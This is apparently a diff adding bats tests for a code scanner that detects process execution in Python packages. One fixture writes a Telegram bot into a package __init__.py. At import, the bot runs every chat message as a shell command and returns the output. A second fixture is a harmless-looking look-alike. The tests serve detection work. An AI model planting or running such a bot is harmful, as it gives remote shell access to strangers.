@@ -311,3 +311,34 @@ PY
 	run hits p Exfiltration
 	assert_output ''
 }
+
+@test "a chat bot's message handler (@bot.message_handler) runs on every message: a Telegram shell weighs at import time" {
+	mkdir -p p/pkg
+	cat > p/pkg/__init__.py <<'PY'
+import subprocess, telebot
+bot = telebot.TeleBot(TOKEN)
+@bot.message_handler(func=lambda m: True)
+def run(message):
+    out = subprocess.check_output(message.text, shell=True)
+    bot.reply_to(message, out)
+bot.infinity_polling()
+PY
+	run hits p ProcessExecution
+	assert_output 'pkg/__init__.py 5 import 40'
+}
+
+@test "look-alike: a handler registered inside a function nothing calls, or another decorator, stays a function" {
+	mkdir -p p/pkg
+	cat > p/pkg/__init__.py <<'PY'
+import subprocess, functools
+def make_bot(bot):
+    @bot.message_handler(commands=["status"])
+    def status(message):
+        subprocess.check_output(["uptime"])
+@functools.lru_cache()
+def run(cmd):
+    return subprocess.check_output(cmd, shell=True)
+PY
+	run hits p ProcessExecution
+	assert_output "$(printf '%s\n' 'pkg/__init__.py 5 function 2' 'pkg/__init__.py 8 function 2')"
+}
